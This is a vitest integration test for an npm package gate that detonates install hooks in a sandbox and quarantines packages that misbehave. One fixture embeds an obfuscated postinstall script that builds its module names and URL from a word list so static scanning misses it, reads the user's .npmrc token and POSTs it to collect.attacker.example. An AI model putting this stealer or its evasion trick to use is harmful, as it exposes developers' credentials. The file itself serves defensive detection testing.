import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { environment } from '../src/config/environment.ts'
import { Apart } from '../src/sandbox/gate/apart.ts'
import { startFakeNpm } from './fakes/npm.ts'
import type { FakeNpm } from './fakes/npm.ts'
import { SANDBOX_POLICY } from './fakes/runner.ts'
import { installClients, runClient } from './harness/clients.ts'
import { startGate } from './harness/gate.ts'
import type { Gate } from './harness/gate.ts'
import { installed, projectFolder, writeProject } from './harness/projects.ts'

/**
 * One package, from a real client through the real sandbox. What it does is ours: it reads a planted secret and sends it to a
 * reserved name, in a cell that nothing leaves.
 */
const HOOK = { scripts: { postinstall: 'node setup.js' } }
/** Static examination finds nothing in it: its words stand in a file of data, and are put together while it runs. */
const WORDS = JSON.stringify(['fs', 'path', 'os', '.npm', 'rc', 'https', 'request', 'https://collect', '.attacker', '.example/in', 'POST'])
const THIEF = `const words = require('./words.json')
const pick = (list) => list.map((at) => words[at]).join('')
const lib = (list) => require(pick(list))
const text = lib([0]).readFileSync(lib([1]).join(lib([2]).homedir(), pick([3, 4])), 'utf8')
lib([5])[pick([6])](pick([7, 8, 9]), { method: pick([10]) }, (answer) => answer.resume()).end(text)
`
const young = new Date(Date.now() - 3_600_000)
const { PATH: path = '' } = environment()
const apart = (npm: string): Apart => new Apart({ bases: { npm, pypi: null, go: null }, path, cache: null, backend: null })
const probes = await apart('http://127.0.0.1:9/').probe()
const works = probes.some((one) => one.works)
if (!works) process.stderr.write(`skipped: no package can be run here: ${probes.map(({ backend, says }) => `${backend}: ${says}`).join('; ')}\n`)

describe.skipIf(!works)('the real sandbox in the gate', () => {
  let npm: FakeNpm
  let gate: Gate
  let folder: string
  /** What static examination said of each, before anything was run. */
  const read = new Map<string, unknown>()

  beforeAll(async () => {
    await installClients()
    folder = await mkdtemp(join(tmpdir(), 'sluice-real-'))
    npm = await startFakeNpm([
      { name: 'thanks', version: '1.0.0', manifest: HOOK, files: { 'setup.js': "console.log('thanks for installing')" }, publishedAt: young },
      { name: 'leans', version: '1.0.0', manifest: { ...HOOK, dependencies: { bad: '1.0.0', good: '^1.0.0' } }, files: { 'setup.js': "require('good')" }, publishedAt: young },
      { name: 'bad', version: '0.9.0' }, { name: 'bad', version: '1.0.0' }, { name: 'good', version: '1.0.0' }, { name: 'good', version: '1.1.0' },
      { name: 'takes', version: '1.0.0', manifest: HOOK, files: { 'setup.js': THIEF, 'words.json': WORDS }, publishedAt: young },
    ])
    gate = await startGate({
      sources: { npm: { url: npm.url, sumdb: null } }, limits: { patience: 200 }, policy: { sandbox: SANDBOX_POLICY },
      sandbox: { settings: { mode: 'on', backend: null, budget: { anHour: 100, atOnce: 2 }, passes: ['laptop'], time: 120_000 }, runs: apart(npm.url) },
    })
    // Both are run while the first client is refused.
    for (const name of ['thanks', 'takes']) read.set(name, await gate.app.operator.scan(`npm:${name}@1.0.0`))
  }, 300_000)

  afterAll(async () => {
    await gate.close()
    await npm.close()
    await rm(folder, { recursive: true, force: true })
  })

  const install = async (name: string, attempt: string): Promise<{ code: number | null; text: string; has: string[] }> => {
    const cwd = await projectFolder(folder, `${name}-${attempt}`)
    const { code, text } = await runClient('npm12', await writeProject('npm12', cwd, { [name]: '^1.0.0' }, { npm: gate.npm }), { cwd, gate: { npm: gate.npm } })
    return { code, text, has: code === 0 ? await installed('npm12', cwd) : [] }
  }
  const ended = async (name: string): Promise<string> => (await gate.app.sandbox.desk.list({ package: { ecosystem: 'npm', name, version: null } }))[0]?.status ?? 'none'

  it('holds a harmless hook until it was run, and frees it by itself', async () => {
    const first = await install('thanks', 'first')
    expect(first.text).toContain('being run in the sandbox, try again in a few minutes')
    await expect.poll(() => ended('thanks'), { timeout: 120_000 }).toBe('completed')
    expect(await install('thanks', 'second')).toMatchObject({ code: 0, has: ['thanks@1.0.0'] })
  }, 240_000)

  it('quarantines a thief for what it did, with the reason in the client\'s words', async () => {
    expect(read.get('takes')).toMatchObject({ level: 'clean', findings: [] })
    await expect.poll(() => ended('takes'), { timeout: 120_000 }).toMatch(/completed|incomplete/)
    const answer = await install('takes', 'first')
    expect(answer.code).not.toBe(0)
    expect(answer.text).toMatch(/takes@1\.0\.0: .*(?:npm-token|token|secret)/)
    const row = await gate.app.context.database.query.selectFrom('verdicts').select(['level', 'findings', 'indicators']).where('name', '=', 'takes').executeTakeFirstOrThrow()
    expect(row.level).toBe('malicious')
    expect(row.findings).toContain('"detector":"did-send-secrets"')
    expect(row.indicators).toContain('collect.attacker.example')
    const [run] = await gate.app.sandbox.desk.list({ package: { ecosystem: 'npm', name: 'takes', version: '1.0.0' } })
    const { record } = await gate.app.sandbox.desk.show(run?.id ?? '')
    expect(record?.phases.flatMap(({ acts }) => acts).some(({ honey }) => (honey ?? []).some(({ token }) => token === 'npm-token'))).toBe(true)
  }, 240_000)

  it('installs nothing that is condemned here, and says that it is missing', async () => {
    const order = { ecosystem: 'npm', digest: null, action: 'recall', because: 'it steals', by: 'ann', expiresAt: null } as const
    for (const [name, version] of [['bad', '1.0.0'], ['good', '1.1.0']] as const) await gate.app.operator.order({ ...order, name, version })
    await gate.app.operator.scan('npm:leans@1.0.0')
    await expect.poll(() => ended('leans'), { timeout: 120_000 }).toBe('incomplete')
    const [run] = await gate.app.sandbox.desk.list({ package: { ecosystem: 'npm', name: 'leans', version: '1.0.0' } })
    expect(run?.missing.filter((line) => line.startsWith('not fetched'))).toEqual(['not fetched: bad@1.0.0, wanted by the package: this gate refuses 1.0.0: recalled: it steals (ann)'])
    expect((await install('leans', 'first')).text).toContain('could not be run in the sandbox (')
  }, 240_000)
})
